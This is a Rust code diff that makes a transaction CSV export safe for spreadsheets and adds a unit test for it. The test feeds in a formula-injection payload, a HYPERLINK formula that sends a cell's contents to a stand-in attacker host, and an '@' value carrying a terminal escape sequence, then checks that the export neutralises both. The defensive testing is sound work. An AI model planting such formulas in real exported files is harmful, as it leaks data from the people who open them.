@@ -28,10 +28,13 @@ fn opt<T: ToString>(v: Option<T>) -> String {
     v.map(|v| v.to_string()).unwrap_or_default()
 }
 
+/// One transaction as CSV cells, each made safe for a spreadsheet (`text::csv_cell`: no
+/// control characters, no formula); money as plain numbers. The CLI and the workstation's
+/// export both write these.
 pub fn csv_row(t: &Transaction) -> Vec<String> {
     let p = &t.payment;
     let plain = |m: Option<Money>| opt(m.map(|m| m.plain()));
-    vec![
+    let cells = vec![
         t.general.entry_date.clone(),
         t.general.purchase_order_number.clone(),
         t.general.purchase_request_number.clone(),
@@ -47,7 +50,14 @@ pub fn csv_row(t: &Transaction) -> Vec<String> {
         plain(p.bill_amount),
         p.bank_name.clone(),
         p.va_number.clone(),
-    ]
+    ];
+    cells
+        .into_iter()
+        .map(|c| match super::text::csv_cell(&c) {
+            std::borrow::Cow::Borrowed(_) => c,
+            std::borrow::Cow::Owned(o) => o,
+        })
+        .collect()
 }
 
 /// Search over PO, PR and invoice numbers, buyer and vendor (case-insensitive), and an exact
@@ -197,5 +207,16 @@ mod tests {
         let row = csv_row(&tx("PO-1", "Selesai", "PT A", 257005026));
         assert_eq!(row.len(), CSV_HEADERS.len());
         assert_eq!(row[12], "257005026");
+        let mut evil = tx(
+            "PO-1",
+            "Selesai",
+            r#"=HYPERLINK("http://evil.example/?"&A1,"click")"#,
+            -5,
+        );
+        evil.general.buyer_name = "@SUM(1)\u{1b}[2J".into();
+        let row = csv_row(&evil);
+        assert!(row[5].starts_with("'=HYPERLINK("), "{}", row[5]);
+        assert_eq!(row[4], "'@SUM(1)[2J");
+        assert_eq!(row[12], "-5", "a negative amount stays a number");
     }
 }
